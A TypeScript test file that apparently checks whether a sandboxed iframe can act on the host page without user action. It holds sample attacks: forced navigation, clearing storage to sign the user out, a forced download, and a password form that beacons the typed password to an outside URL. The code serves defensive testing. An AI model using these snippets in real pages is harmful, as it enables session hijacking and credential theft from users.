import type { Page } from 'playwright-core';
import type { Attack } from '../attack';

const ELSEWHERE = '/members';

const isAt = (page: Page, path: string) => new URL(page.url()).pathname === path;

/**
 * Lists attacks that lead the person elsewhere or end their session although they press nothing. Each gets a page of its
 * own.
 */
export const PERSON: readonly Attack[] = [
  {
    name: 'led-away',
    withoutPress: true,
    run: ({ callHost }) => {
      try {
        parent.history.replaceState(null, '', '/members');
      } catch {
        // The next way is tried.
      }
      return callHost(['navigate'], { to: '/members', replace: false, state: null });
    },
    visit: async (page) => isAt(page, ELSEWHERE),
  },
  {
    name: 'signed-out',
    withoutPress: true,
    run: ({ callHost }) => {
      try {
        parent.localStorage.clear();
      } catch {
        // The next way is tried.
      }
      return callHost(['signOut']).then(() => undefined);
    },
    visit: (page) => page.evaluate(() => localStorage.getItem('token') === null),
  },
  {
    name: 'download-by-the-page',
    withoutPress: true,
    run: ({ callHost }) => {
      const file = new Blob(['hostile']);
      const link = document.createElement('a');
      Object.assign(link, { href: URL.createObjectURL(file), download: 'hostile.txt' });
      link.click();
      return callHost(['save'], file, 'hostile.txt').then(() => undefined);
    },
  },
  {
    // The password itself is for the code to read; what counts is that it can't leave the frame.
    name: 'typed-password',
    withoutPress: true,
    run: ({ url }) => {
      const form = document.createElement('form');
      Object.assign(form, { action: `${url}/a.html`, method: 'post' });
      const password = Object.assign(document.createElement('input'), { type: 'password', name: 'password' });
      form.append(password, document.createElement('button'));
      form.addEventListener('submit', () => {
        const carried = `${url}?${encodeURIComponent(password.value)}`;
        new Image().src = carried;
        navigator.sendBeacon(carried);
        window.open(carried);
      });
      document.body.append(form);
    },
    visit: async (page) => {
      const password = page.frameLocator('iframe').locator('[name="password"]');
      await password.fill('a password', { timeout: 10_000 });
      await password.press('Enter');
      return false;
    },
  },
];
